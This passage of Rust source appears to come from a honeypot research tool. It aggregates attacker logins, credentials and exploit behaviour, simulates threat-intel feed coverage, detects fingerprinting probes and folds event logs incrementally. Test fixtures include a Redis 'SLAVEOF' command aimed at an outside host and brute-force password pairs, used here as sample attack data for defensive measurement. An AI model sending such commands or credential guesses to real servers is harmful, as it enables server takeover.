    rows.sort_by(|a, b| b.ips.cmp(&a.ips).then_with(|| a.country.cmp(&b.country)));
    rows
}

/// Frame counterpart of [`astype_behavior`].
pub fn astype_behavior_view(
    view: FrameView<'_>,
    families: &[Dbms],
) -> BTreeMap<AsType, BTreeMap<Behavior, usize>> {
    let mut merged: BTreeMap<IpAddr, crate::classify::BehaviorProfile> = BTreeMap::new();
    for &dbms in families {
        for (src, profile) in classify_view(view, Some(dbms)) {
            merged.entry(src).or_default().merge(profile);
        }
    }
    let mut out: BTreeMap<AsType, BTreeMap<Behavior, usize>> = BTreeMap::new();
    for (src, profile) in merged {
        let as_type = view.meta(src).map(|m| m.as_type).unwrap_or(AsType::Unknown);
        *out.entry(as_type)
            .or_default()
            .entry(profile.primary())
            .or_insert(0) += 1;
    }
    out
}

/// Frame counterpart of [`top_credentials`]: counts over the frame's shared
/// `Arc<str>` credentials, converting to owned strings only for the final
/// top-k rows.
pub fn top_credentials_view(view: FrameView<'_>, dbms: Dbms, k: usize) -> CredentialStats {
    let mut users: HashMap<Arc<str>, u64> = HashMap::new();
    let mut passwords: HashMap<Arc<str>, u64> = HashMap::new();
    let mut combos: BTreeSet<(Arc<str>, Arc<str>)> = BTreeSet::new();
    for event in view.events_of(Some(dbms)) {
        if let FrameKind::LoginAttempt {
            username, password, ..
        } = &event.kind
        {
            *users.entry(Arc::clone(username)).or_insert(0) += 1;
            *passwords.entry(Arc::clone(password)).or_insert(0) += 1;
            combos.insert((Arc::clone(username), Arc::clone(password)));
        }
    }
    let top = |map: HashMap<Arc<str>, u64>| {
        let mut v: Vec<(Arc<str>, u64)> = map.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
        v.truncate(k);
        v.into_iter()
            .map(|(s, n)| (s.as_ref().to_string(), n))
            .collect()
    };
    let unique_usernames = users.len();
    let unique_passwords = passwords.len();
    CredentialStats {
        top_usernames: top(users),
        top_passwords: top(passwords),
        unique_combinations: combos.len(),
        unique_usernames,
        unique_passwords,
    }
}

/// Frame counterpart of [`bruteforce_summary`].
pub fn bruteforce_summary_view(view: FrameView<'_>) -> BruteforceSummary {
    let mut summary = BruteforceSummary::default();
    let mut clients: BTreeSet<IpAddr> = BTreeSet::new();
    for event in view.events() {
        if matches!(event.kind, FrameKind::LoginAttempt { .. }) {
            summary.total_logins += 1;
            *summary.per_dbms.entry(event.honeypot.dbms).or_insert(0) += 1;
            clients.insert(event.src);
        }
    }
    summary.clients = clients.len();
    summary.avg_attempts_per_client = if clients.is_empty() {
        0.0
    } else {
        summary.total_logins as f64 / clients.len() as f64
    };
    summary
}

/// Frame counterpart of [`control_group_summary`].
pub fn control_group_summary_view(view: FrameView<'_>) -> ControlGroupSummary {
    use decoy_store::ConfigVariant;
    let mut single: BTreeSet<IpAddr> = BTreeSet::new();
    let mut multi: BTreeSet<IpAddr> = BTreeSet::new();
    let mut brute_single: BTreeSet<IpAddr> = BTreeSet::new();
    let mut brute_multi: BTreeSet<IpAddr> = BTreeSet::new();
    for event in view.events() {
        let is_login = matches!(event.kind, FrameKind::LoginAttempt { .. });
        match event.honeypot.config {
            ConfigVariant::SingleService => {
                single.insert(event.src);
                if is_login {
                    brute_single.insert(event.src);
                }
            }
            ConfigVariant::MultiService => {
                multi.insert(event.src);
                if is_login {
                    brute_multi.insert(event.src);
                }
            }
            _ => {}
        }
    }
    ControlGroupSummary {
        overlap: single.intersection(&multi).count(),
        brute_single_only: brute_single.difference(&brute_multi).count(),
        brute_multi_only: brute_multi.difference(&brute_single).count(),
        single_ips: single.len(),
        multi_ips: multi.len(),
    }
}

/// Frame counterpart of [`scanning_summary`].
pub fn scanning_summary_view(view: FrameView<'_>) -> ScanningSummary {
    let mut sources: BTreeSet<IpAddr> = BTreeSet::new();
    for event in view.events() {
        sources.insert(event.src);
    }
    let mut per_country: HashMap<String, usize> = HashMap::new();
    let mut institutional = 0usize;
    for src in &sources {
        let meta = view.meta(*src);
        let country = meta
            .map(|m| m.country.clone())
            .unwrap_or_else(|| "??".to_string());
        *per_country.entry(country).or_insert(0) += 1;
        if meta.map(|m| m.institutional).unwrap_or(false) {
            institutional += 1;
        }
    }
    let mut country_counts: Vec<(String, usize)> = per_country.into_iter().collect();
    country_counts.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    ScanningSummary {
        unique_ips: sources.len(),
        institutional_ips: institutional,
        country_counts,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, Event, HoneypotId, InteractionLevel};
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use std::sync::Arc;

    struct Fixture {
        store: Arc<EventStore>,
        geo: Arc<GeoDb>,
        chinanet_ip: IpAddr,
        censys_ip: IpAddr,
        ru_ip: IpAddr,
    }

    fn fixture() -> Fixture {
        let geo = GeoDb::builtin();
        let mut rng = StdRng::seed_from_u64(9);
        let chinanet_ip = IpAddr::V4(geo.sample_ip(4134, None, &mut rng).unwrap());
        let censys_ip = IpAddr::V4(geo.sample_ip(398324, None, &mut rng).unwrap());
        let ru_ip = IpAddr::V4(geo.sample_ip(208091, Some("RU"), &mut rng).unwrap());
        let store = EventStore::new();
        let hp =
            |dbms| HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0);
        let log = |src: IpAddr, dbms, kind| {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: hp(dbms),
                src,
                session: 1,
                kind,
            })
        };
        // censys scans only
        log(censys_ip, Dbms::Mssql, EventKind::Connect);
        // chinanet brute-forces MSSQL twice
        for pw in ["123", "123456"] {
            log(
                chinanet_ip,
                Dbms::Mssql,
                EventKind::LoginAttempt {
                    username: "sa".into(),
                    password: pw.into(),
                    success: false,
                },
            );
        }
        // the RU hoster hammers MSSQL
        for _ in 0..10 {
            log(
                ru_ip,
                Dbms::Mssql,
                EventKind::LoginAttempt {
                    username: "sa".into(),
                    password: "P@ssw0rd".into(),
                    success: false,
                },
            );
        }
        // one MySQL login from chinanet
        log(
            chinanet_ip,
            Dbms::MySql,
            EventKind::LoginAttempt {
                username: "root".into(),
                password: "root".into(),
                success: false,
            },
        );
        Fixture {
            store,
            geo,
            chinanet_ip,
            censys_ip,
            ru_ip,
        }
    }

    #[test]
    fn table5_country_rows() {
        let f = fixture();
        let rows = logins_by_country(&f.store, &f.geo);
        // RU tops by volume (10 logins)
        assert_eq!(rows[0].country, "RU");
        assert_eq!(rows[0].logins, 10);
        assert_eq!(rows[0].ips_with_logins, 1);
        assert_eq!(rows[0].per_dbms[&Dbms::Mssql], 10);
        let cn = rows.iter().find(|r| r.country == "CN").unwrap();
        assert_eq!(cn.logins, 3);
        assert_eq!(cn.per_dbms[&Dbms::Mssql], 2);
        assert_eq!(cn.per_dbms[&Dbms::MySql], 1);
        // US row exists (censys) with zero logins
        let us = rows.iter().find(|r| r.country == "US").unwrap();
        assert_eq!(us.logins, 0);
        assert_eq!(us.ips_total, 1);
    }

    #[test]
    fn table6_asn_rows() {
        let f = fixture();
        let rows = asn_table(&f.store, &f.geo);
        let chinanet = rows.iter().find(|r| r.asn == 4134).unwrap();
        assert_eq!(chinanet.ips, 1);
        assert_eq!(chinanet.logins, 3);
        assert_eq!(chinanet.name, "Chinanet");
        let censys = rows.iter().find(|r| r.asn == 398324).unwrap();
        assert_eq!(censys.logins, 0);
        let total_share: f64 = rows.iter().map(|r| r.share).sum();
        assert!((total_share - 1.0).abs() < 1e-9);
    }

    #[test]
    fn table7_astype_logins() {
        let f = fixture();
        let t = astype_login_ips(&f.store, &f.geo);
        assert_eq!(t[&AsType::Telecom], 1); // chinanet
        assert_eq!(t[&AsType::Hosting], 1); // AS208091
        assert!(!t.contains_key(&AsType::Security)); // censys never logged in
    }

    #[test]
    fn table12_credentials() {
        let f = fixture();
        let stats = top_credentials(&f.store, Dbms::Mssql, 10);
        assert_eq!(stats.top_usernames[0], ("sa".to_string(), 12));
        assert_eq!(stats.top_passwords[0], ("P@ssw0rd".to_string(), 10));
        assert_eq!(stats.unique_combinations, 3);
        assert_eq!(stats.unique_usernames, 1);
        assert_eq!(stats.unique_passwords, 3);
    }

    #[test]
    fn bruteforce_and_scanning_summaries() {
        let f = fixture();
        let b = bruteforce_summary(&f.store);
        assert_eq!(b.total_logins, 13);
        assert_eq!(b.per_dbms[&Dbms::Mssql], 12);
        assert_eq!(b.per_dbms[&Dbms::MySql], 1);
        assert_eq!(b.clients, 2);
        assert!((b.avg_attempts_per_client - 6.5).abs() < 1e-12);

        let s = scanning_summary(&f.store, &f.geo);
        assert_eq!(s.unique_ips, 3);
        assert_eq!(s.institutional_ips, 1);
        assert_eq!(s.country_counts.len(), 3);
        // sanity: the fixture IPs resolve where expected
        assert_eq!(f.geo.lookup(f.censys_ip).unwrap().country, "US");
        assert_eq!(f.geo.lookup(f.ru_ip).unwrap().country, "RU");
        assert_eq!(f.geo.lookup(f.chinanet_ip).unwrap().country, "CN");
    }

    #[test]
    fn control_group_accounting() {
        use decoy_store::ConfigVariant;
        let geo = GeoDb::builtin();
        let _ = &geo;
        let store = EventStore::new();
        let hp = |config| HoneypotId::new(Dbms::Mssql, InteractionLevel::Low, config, 0);
        let log = |src: IpAddr, config, kind| {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: hp(config),
                src,
                session: 1,
                kind,
            })
        };
        let a: IpAddr = "60.0.0.1".parse().unwrap(); // both groups, brutes multi only
        let b: IpAddr = "60.0.0.2".parse().unwrap(); // single only, brutes there
        let c: IpAddr = "60.0.0.3".parse().unwrap(); // multi only, scan only
        let login = EventKind::LoginAttempt {
            username: "sa".into(),
            password: "1".into(),
            success: false,
        };
        log(a, ConfigVariant::SingleService, EventKind::Connect);
        log(a, ConfigVariant::MultiService, login.clone());
        log(b, ConfigVariant::SingleService, login.clone());
        log(c, ConfigVariant::MultiService, EventKind::Connect);
        let summary = control_group_summary(&store);
        assert_eq!(summary.single_ips, 2);
        assert_eq!(summary.multi_ips, 2);
        assert_eq!(summary.overlap, 1);
        assert_eq!(summary.brute_single_only, 1); // b
        assert_eq!(summary.brute_multi_only, 1); // a
    }

    #[test]
    fn table10_and_table11_exploiters() {
        let f = fixture();
        // add an exploiting source on medium Redis from Chinanet
        let hp = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        f.store.log(Event {
            ts: EXPERIMENT_START,
            honeypot: hp,
            src: f.chinanet_ip,
            session: 2,
            kind: EventKind::Command {
                action: "SLAVEOF <IP> <N>".into(),
                raw: "SLAVEOF 1.2.3.4 8886".into(),
            },
        });
        let families = [Dbms::Elastic, Dbms::MongoDb, Dbms::Postgres, Dbms::Redis];
        let rows = exploit_countries(&f.store, &f.geo, &families);
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].country, "CN");
        assert_eq!(rows[0].per_dbms[&Dbms::Redis], 1);
        assert_eq!(rows[0].per_dbms[&Dbms::Postgres], 0);

        let t11 = astype_behavior(&f.store, &f.geo, &families);
        assert_eq!(t11[&AsType::Telecom][&Behavior::Exploiting], 1);
    }

    #[test]
    fn frame_tables_match_legacy() {
        use crate::frame::{AnalysisFrame, Partition};
        let f = fixture();
        // include a med/high exploiter so the classification tables are
        // non-trivial
        let hp = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        f.store.log(Event {
            ts: EXPERIMENT_START,
            honeypot: hp,
            src: f.chinanet_ip,
            session: 2,
            kind: EventKind::Command {
                action: "SLAVEOF <IP> <N>".into(),
                raw: "SLAVEOF 1.2.3.4 8886".into(),
            },
        });
        let families = [Dbms::Elastic, Dbms::MongoDb, Dbms::Postgres, Dbms::Redis];
        let frame = AnalysisFrame::build(&f.store, &f.geo);
        let view = frame.view(Partition::All);

        assert_eq!(
            logins_by_country_view(view),
            logins_by_country(&f.store, &f.geo)
        );
        assert_eq!(asn_table_view(view), asn_table(&f.store, &f.geo));
        assert_eq!(
            astype_login_ips_view(view),
            astype_login_ips(&f.store, &f.geo)
        );
        assert_eq!(
            exploit_countries_view(view, &families),
            exploit_countries(&f.store, &f.geo, &families)
        );
        assert_eq!(
            astype_behavior_view(view, &families),
            astype_behavior(&f.store, &f.geo, &families)
        );
        assert_eq!(
            top_credentials_view(view, Dbms::Mssql, 10),
            top_credentials(&f.store, Dbms::Mssql, 10)
        );
        assert_eq!(bruteforce_summary_view(view), bruteforce_summary(&f.store));
        assert_eq!(
            control_group_summary_view(view),
            control_group_summary(&f.store)
        );
        assert_eq!(
            scanning_summary_view(view),
            scanning_summary(&f.store, &f.geo)
        );
    }
}
