//! Synthetic threat-intelligence feeds (§5, §6.2).
//!
//! The paper cross-references its sources against GreyNoise, AbuseIPDB, and
//! the Team Cymru scout API and finds a visibility gap: noisy brute-forcers
//! are reasonably well reported (21 % / 65 % / 48 % respectively), while the
//! targeted exploiters of the medium/high honeypots largely are not
//! (11 % / 15 % / 2 %).
//!
//! We cannot query the real feeds; instead each [`IntelFeed`] is a
//! deterministic sampler with two *calibrated input* coverage rates — one
//! for internet-noisy actors, one for targeted actors (taken from the
//! paper's measurements). The *measured output* of the experiment is the
//! re-derived coverage over our classified population: the pipeline decides
//! per-source which rate applies, so the gap only reproduces if the
//! classification stage works.

use crate::classify::BehaviorProfile;
use std::collections::BTreeMap;
use std::net::IpAddr;

/// A synthetic OSINT feed.
#[derive(Debug, Clone)]
pub struct IntelFeed {
    /// Feed name (`greynoise`, `abuseipdb`, `team-cymru`).
    pub name: String,
    /// Probability that an internet-noisy actor (mass scanner /
    /// brute-forcer) is listed.
    pub coverage_noisy: f64,
    /// Probability that a targeted actor (exploiter not seen mass
    /// scanning) is listed.
    pub coverage_targeted: f64,
}

impl IntelFeed {
    /// The three feeds of §5/§6.2 with the paper's observed rates.
    pub fn paper_feeds() -> Vec<IntelFeed> {
        vec![
            IntelFeed {
                name: "greynoise".into(),
                coverage_noisy: 0.21,
                coverage_targeted: 0.11,
            },
            IntelFeed {
                name: "abuseipdb".into(),
                coverage_noisy: 0.65,
                coverage_targeted: 0.15,
            },
            IntelFeed {
                name: "team-cymru".into(),
                coverage_noisy: 0.48,
                coverage_targeted: 0.02,
            },
            // FEODO tracks botnet C2 servers, not attack sources: 0 matches.
            IntelFeed {
                name: "feodo".into(),
                coverage_noisy: 0.0,
                coverage_targeted: 0.0,
            },
        ]
    }

    /// Whether this feed lists `ip`. Deterministic in `(feed name, ip)` via
    /// an FNV-style hash, so runs are reproducible without shared RNG state.
    pub fn lists(&self, ip: IpAddr, noisy: bool) -> bool {
        let rate = if noisy {
            self.coverage_noisy
        } else {
            self.coverage_targeted
        };
        if rate <= 0.0 {
            return false;
        }
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in self.name.bytes() {
            h = (h ^ b as u64).wrapping_mul(0x1000_0000_01b3);
        }
        let octets = match ip {
            IpAddr::V4(v4) => v4.octets().to_vec(),
            IpAddr::V6(v6) => v6.octets().to_vec(),
        };
        for b in octets {
            h = (h ^ b as u64).wrapping_mul(0x1000_0000_01b3);
        }
        (h % 10_000) as f64 / 10_000.0 < rate
    }
}

/// Coverage of one feed over one population.
#[derive(Debug, Clone, PartialEq)]
pub struct FeedCoverage {
    /// Feed name.
    pub feed: String,
    /// Sources checked.
    pub checked: usize,
    /// Sources the feed listed.
    pub listed: usize,
}

impl FeedCoverage {
    /// Listed fraction.
    pub fn fraction(&self) -> f64 {
        if self.checked == 0 {
            0.0
        } else {
            self.listed as f64 / self.checked as f64
        }
    }
}

/// Evaluate feed coverage over a population. `noisy_set` marks sources that
/// are visible internet-wide (the §5 brute-forcer population); all others
/// are treated as targeted.
pub fn coverage(
    feeds: &[IntelFeed],
    population: &BTreeMap<IpAddr, BehaviorProfile>,
    noisy: impl Fn(IpAddr) -> bool,
) -> Vec<FeedCoverage> {
    feeds
        .iter()
        .map(|feed| {
            let mut listed = 0usize;
            for &ip in population.keys() {
                if feed.lists(ip, noisy(ip)) {
                    listed += 1;
                }
            }
            FeedCoverage {
                feed: feed.name.clone(),
                checked: population.len(),
                listed,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn population(n: u16) -> BTreeMap<IpAddr, BehaviorProfile> {
        (0..n)
            .map(|i| {
                (
                    IpAddr::from([10, 20, (i >> 8) as u8, (i & 0xff) as u8]),
                    BehaviorProfile {
                        scanning: true,
                        ..Default::default()
                    },
                )
            })
            .collect()
    }

    #[test]
    fn listing_is_deterministic() {
        let feed = &IntelFeed::paper_feeds()[0];
        let ip: IpAddr = "10.0.0.1".parse().unwrap();
        assert_eq!(feed.lists(ip, true), feed.lists(ip, true));
    }

    #[test]
    fn coverage_tracks_configured_rates() {
        let feeds = IntelFeed::paper_feeds();
        let pop = population(2000);
        let noisy = coverage(&feeds, &pop, |_| true);
        let targeted = coverage(&feeds, &pop, |_| false);
        for (cov, feed) in noisy.iter().zip(&feeds) {
            let err = (cov.fraction() - feed.coverage_noisy).abs();
            assert!(
                err < 0.05,
                "{}: {} vs {}",
                feed.name,
                cov.fraction(),
                feed.coverage_noisy
            );
        }
        for (cov, feed) in targeted.iter().zip(&feeds) {
            let err = (cov.fraction() - feed.coverage_targeted).abs();
            assert!(err < 0.05, "{}", feed.name);
        }
        // the gap itself: noisy coverage strictly exceeds targeted coverage
        for (n, t) in noisy.iter().zip(&targeted) {
            if n.feed != "feodo" {
                assert!(n.fraction() > t.fraction(), "{}", n.feed);
            }
        }
    }

    #[test]
    fn feodo_never_matches() {
        let feeds = IntelFeed::paper_feeds();
        let feodo = feeds.iter().find(|f| f.name == "feodo").unwrap();
        for i in 0..100u8 {
            assert!(!feodo.lists(IpAddr::from([1, 2, 3, i]), true));
        }
    }

    #[test]
    fn empty_population() {
        let feeds = IntelFeed::paper_feeds();
        let cov = coverage(&feeds, &BTreeMap::new(), |_| true);
        assert!(cov.iter().all(|c| c.fraction() == 0.0));
    }

    #[test]
    fn feeds_disagree_on_membership() {
        // different feeds hash differently, so listings are not identical
        let feeds = IntelFeed::paper_feeds();
        let pop = population(500);
        let a: Vec<bool> = pop.keys().map(|&ip| feeds[0].lists(ip, true)).collect();
        let b: Vec<bool> = pop.keys().map(|&ip| feeds[1].lists(ip, true)).collect();
        assert_ne!(a, b);
    }
}
