//! Counter-fingerprinting detection (§7 arms race): recognize the
//! multistage probe battery of `decoy-fingerprint` — or anti-honeypot
//! tooling shaped like it — in captured traffic.
//!
//! The battery's requests are deliberately conspicuous on the wire: each
//! stage sends exactly one command a production client never would (a
//! gibberish query to elicit the error catalog, a made-up command word, a
//! GET for a sentinel path). That makes the scanner itself detectable,
//! which is the defender's half of the arms race: the report's
//! "Detectability" section tallies who is probing which family.

/// True when a captured command is one of the fingerprint battery's
/// distinctive requests.
///
/// Matches the error-catalog elicitors (`FINGERPRINT PROBE` for MySQL,
/// `FROBNICATE the catalog` for PostgreSQL, the `FINGERPRINTPROBE` /
/// `fingerprintProbe` made-up command words for Redis and MongoDB) and the
/// HTTP sentinel paths the Elasticsearch/CouchDB stages request. Banner
/// grabs and capability cross-checks are *not* matched — those are
/// indistinguishable from legitimate client handshakes.
pub fn is_fingerprint_probe(raw: &str) -> bool {
    raw == "FINGERPRINT PROBE"
        || raw == "FROBNICATE the catalog"
        || raw.starts_with("FINGERPRINTPROBE")
        || raw.eq_ignore_ascii_case("fingerprintprobe")
        || raw.starts_with("GET /fingerprint_probe_missing")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn battery_commands_are_recognized() {
        for raw in [
            "FINGERPRINT PROBE",
            "FROBNICATE the catalog",
            "FINGERPRINTPROBE arg",
            "fingerprintprobe",
            "GET /fingerprint_probe_missing",
            "GET /fingerprint_probe_missing_db",
        ] {
            assert!(is_fingerprint_probe(raw), "{raw}");
        }
    }

    #[test]
    fn ordinary_traffic_is_not() {
        for raw in [
            "SELECT version();",
            "SELECT @@version",
            "INFO server",
            "GET /",
            "ismaster",
            "buildInfo",
            "SHOW DATABASES",
        ] {
            assert!(!is_fingerprint_probe(raw), "{raw}");
        }
    }
}
