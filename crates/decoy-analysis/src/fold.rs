//! Incrementally foldable analysis frames.
//!
//! The batch pipeline builds one [`AnalysisFrame`] after the run ends; a
//! live multi-week capture (ROADMAP north star) cannot afford that. A
//! [`PartialFrame`] is a self-contained fold over *any* contiguous slice of
//! the event log — it owns its [`Interner`], session index, geo memo, and
//! per-partition counters — and two partials combine with
//! [`PartialFrame::merge`], an associative operator that is insensitive to
//! the order segments arrive in. [`PartialFrame::seal`] then produces an
//! [`AnalysisFrame`] identical to what [`AnalysisFrame::build`] would have
//! computed over the concatenated events, so every report section works
//! unchanged over a streamed frame.
//!
//! Positioning is keyed by the journal's global sequence numbers: a partial
//! started with [`PartialFrame::new`]`(seq)` covers `[seq, seq + span)`.
//! Merge coalesces adjacent runs, deduplicates replicas of the same
//! segment (same start, same length — the shard-join case where two nodes
//! hold copies of one segment file), and keeps disjoint runs apart so gaps
//! remain visible through [`PartialFrame::run_ranges`].

use crate::frame::{AnalysisFrame, FrameEvent, FrameKind, Interner};
use decoy_geo::{GeoEnricher, IpMeta};
use decoy_store::{Event, EventKind, HoneypotId, InteractionLevel, SessionKey};
use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::Arc;

/// One contiguous folded run of events, starting at a global sequence
/// number. Index vectors (`low`, `med_high`, session postings) are relative
/// to `events`; splicing two adjacent runs only requires offsetting the
/// later run's indices by the earlier run's length.
#[derive(Debug, Clone, PartialEq)]
struct Run {
    /// Global sequence number of the first record folded into this run.
    start: u64,
    /// Number of input records consumed (health telemetry included), i.e.
    /// the run covers sequences `[start, start + span)`.
    span: u64,
    events: Vec<FrameEvent>,
    low: Vec<usize>,
    med_high: Vec<usize>,
    sessions: HashMap<(HoneypotId, SessionKey), Vec<usize>>,
    health: Vec<Event>,
}

impl Run {
    /// An empty run positioned at `start`.
    fn at(start: u64) -> Self {
        Run {
            start,
            span: 0,
            events: Vec::new(),
            low: Vec::new(),
            med_high: Vec::new(),
            sessions: HashMap::new(),
            health: Vec::new(),
        }
    }

    /// One past the last sequence number this run covers.
    fn end(&self) -> u64 {
        self.start.saturating_add(self.span)
    }

    /// Append `next` (which must start exactly at `self.end()`), rebasing
    /// its event indices onto this run.
    fn splice(&mut self, next: Run) {
        let base = self.events.len();
        self.events.extend(next.events);
        self.low.extend(next.low.into_iter().map(|i| base + i));
        self.med_high
            .extend(next.med_high.into_iter().map(|i| base + i));
        for (key, idxs) in next.sessions {
            self.sessions
                .entry(key)
                .or_default()
                .extend(idxs.into_iter().map(|i| base + i));
        }
        self.health.extend(next.health);
        self.span = self.span.saturating_add(next.span);
    }
}

/// A self-contained fold over one slice of the event log.
///
/// Build with [`PartialFrame::new`] + [`PartialFrame::push`] (one partial
/// per closed journal segment), combine across segments or shards with
/// [`PartialFrame::merge`], and finish with [`PartialFrame::seal`]. The
/// fold is the *only* frame-construction code path:
/// [`AnalysisFrame::build`] itself folds one partial and seals it.
#[derive(Debug, Clone, PartialEq)]
pub struct PartialFrame {
    /// Folded runs, kept sorted by start and pairwise disjoint.
    runs: Vec<Run>,
    /// This partial's own string pool; merge unions pools.
    interner: Interner,
    /// Geo memo: each distinct source enriched at most once per partial.
    meta: HashMap<IpAddr, Option<Arc<IpMeta>>>,
}

impl PartialFrame {
    /// An empty partial positioned at global sequence number `start`.
    pub fn new(start: u64) -> Self {
        PartialFrame {
            runs: vec![Run::at(start)],
            interner: Interner::new(),
            meta: HashMap::new(),
        }
    }

    /// Fold one event into the partial's trailing run.
    ///
    /// Health telemetry is diverted to the frame's fleet-health side
    /// channel (it carries a zero source/session and would pollute the
    /// session/geo/partition aggregations) but still advances the sequence
    /// span, since it occupies a journal sequence number like any record.
    pub fn push(&mut self, event: &Event, enricher: &GeoEnricher) {
        let run = match self.runs.last_mut() {
            Some(run) => run,
            None => {
                self.runs.push(Run::at(0));
                // just pushed, so the vec is non-empty; re-borrow it
                match self.runs.last_mut() {
                    Some(run) => run,
                    None => return,
                }
            }
        };
        run.span = run.span.saturating_add(1);
        if matches!(event.kind, EventKind::Health { .. }) {
            run.health.push(event.clone());
            return;
        }
        let idx = run.events.len();
        match event.honeypot.level {
            InteractionLevel::Low => run.low.push(idx),
            InteractionLevel::Medium | InteractionLevel::High => run.med_high.push(idx),
        }
        run.sessions
            .entry((
                event.honeypot,
                SessionKey {
                    src: event.src,
                    session: event.session,
                },
            ))
            .or_default()
            .push(idx);
        self.meta
            .entry(event.src)
            .or_insert_with(|| enricher.lookup(event.src));
        run.events.push(FrameEvent {
            ts: event.ts,
            honeypot: event.honeypot,
            src: event.src,
            session: event.session,
            kind: FrameKind::from_kind(&event.kind, &mut self.interner),
        });
    }

    /// Combine two partials into one.
    ///
    /// Associative and insensitive to the order segments were folded or
    /// merged in (up to canonicalization): runs are re-sorted by start,
    /// adjacent runs coalesce, and replicas of the same segment — runs
    /// that start inside an already-covered range, as when two shards hold
    /// copies of one segment file — are dropped. Interner pools union;
    /// geo memos union with first-insert-wins (lookups are deterministic,
    /// so both sides agree on shared keys).
    pub fn merge(a: PartialFrame, b: PartialFrame) -> PartialFrame {
        let PartialFrame {
            runs: runs_a,
            mut interner,
            mut meta,
        } = a;
        let PartialFrame {
            runs: runs_b,
            interner: interner_b,
            meta: meta_b,
        } = b;
        interner.absorb(interner_b);
        for (ip, m) in meta_b {
            meta.entry(ip).or_insert(m);
        }
        let mut pending: Vec<Run> = runs_a
            .into_iter()
            .chain(runs_b)
            .filter(|r| r.span > 0)
            .collect();
        // Longest run first at equal starts, so a replica (same start,
        // shorter or equal span) lands inside the covered range and drops.
        pending.sort_by(|x, y| x.start.cmp(&y.start).then(y.span.cmp(&x.span)));
        let mut runs: Vec<Run> = Vec::with_capacity(pending.len());
        for run in pending {
            match runs.last_mut() {
                Some(last) if run.start < last.end() => {
                    // Overlap: a duplicate of a segment already folded (in
                    // practice an exact replica — shards are copies of the
                    // same journal's segment files). Keep the first.
                }
                Some(last) if run.start == last.end() => last.splice(run),
                _ => runs.push(run),
            }
        }
        if runs.is_empty() {
            runs.push(Run::at(0));
        }
        PartialFrame {
            runs,
            interner,
            meta,
        }
    }

    /// Finish the fold, producing the [`AnalysisFrame`] every report
    /// section consumes.
    ///
    /// Runs are concatenated in sequence order; if gaps remain (lost
    /// segments), the frame covers exactly the folded records — inspect
    /// [`PartialFrame::run_ranges`] before sealing to detect that.
    pub fn seal(self) -> AnalysisFrame {
        let PartialFrame {
            runs,
            interner,
            meta,
        } = self;
        let mut iter = runs.into_iter();
        let mut acc = iter.next().unwrap_or_else(|| Run::at(0));
        for run in iter {
            acc.splice(run);
        }
        AnalysisFrame::from_parts(
            acc.events,
            acc.low,
            acc.med_high,
            acc.sessions,
            meta,
            interner.len(),
            acc.health,
        )
    }

    /// Number of non-telemetry events folded so far.
    pub fn len(&self) -> usize {
        self.runs.iter().map(|r| r.events.len()).sum()
    }

    /// True when nothing has been folded.
    pub fn is_empty(&self) -> bool {
        self.span() == 0
    }

    /// Total input records consumed (health telemetry included).
    pub fn span(&self) -> u64 {
        self.runs
            .iter()
            .map(|r| r.span)
            .fold(0, u64::saturating_add)
    }

    /// The sequence number the next pushed record will occupy.
    pub fn next_seq(&self) -> u64 {
        self.runs.last().map(Run::end).unwrap_or(0)
    }

    /// The contiguous `[start, end)` sequence ranges covered, in order.
    /// A single range starting at the journal's first sequence means the
    /// fold is gapless.
    pub fn run_ranges(&self) -> Vec<(u64, u64)> {
        self.runs
            .iter()
            .filter(|r| r.span > 0)
            .map(|r| (r.start, r.end()))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::Partition;
    use decoy_geo::GeoDb;
    use decoy_net::supervisor::HealthState;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, Dbms, EventStore};

    fn hp(dbms: Dbms, level: InteractionLevel) -> HoneypotId {
        HoneypotId::new(dbms, level, ConfigVariant::Default, 0)
    }

    fn ev(dbms: Dbms, level: InteractionLevel, src: &str, session: u64, action: &str) -> Event {
        Event {
            ts: EXPERIMENT_START,
            honeypot: hp(dbms, level),
            src: src.parse().unwrap(),
            session,
            kind: EventKind::Command {
                action: action.into(),
                raw: action.into(),
            },
        }
    }

    fn health() -> Event {
        Event {
            ts: EXPERIMENT_START,
            honeypot: hp(Dbms::Redis, InteractionLevel::Medium),
            src: "0.0.0.0".parse().unwrap(),
            session: 0,
            kind: EventKind::Health {
                state: HealthState::Degraded,
                restarts: 1,
                detail: "accept stall".into(),
            },
        }
    }

    fn fixture() -> Vec<Event> {
        vec![
            ev(
                Dbms::Mssql,
                InteractionLevel::Low,
                "198.51.100.7",
                1,
                "LOGIN",
            ),
            ev(
                Dbms::Redis,
                InteractionLevel::Medium,
                "203.0.113.9",
                2,
                "INFO server",
            ),
            health(),
            ev(
                Dbms::Redis,
                InteractionLevel::Medium,
                "198.51.100.7",
                3,
                "INFO server",
            ),
            ev(
                Dbms::Postgres,
                InteractionLevel::High,
                "203.0.113.9",
                1,
                "SELECT 1",
            ),
        ]
    }

    fn batch(events: &[Event]) -> AnalysisFrame {
        let store = EventStore::new();
        store.log_many(events.iter().cloned());
        AnalysisFrame::build(&store, &GeoDb::builtin())
    }

    fn fold_all(events: &[Event], start: u64) -> PartialFrame {
        let enricher = GeoEnricher::new(GeoDb::builtin());
        let mut partial = PartialFrame::new(start);
        for e in events {
            partial.push(e, &enricher);
        }
        partial
    }

    #[test]
    fn seal_of_one_fold_matches_batch_build() {
        let events = fixture();
        let sealed = fold_all(&events, 0).seal();
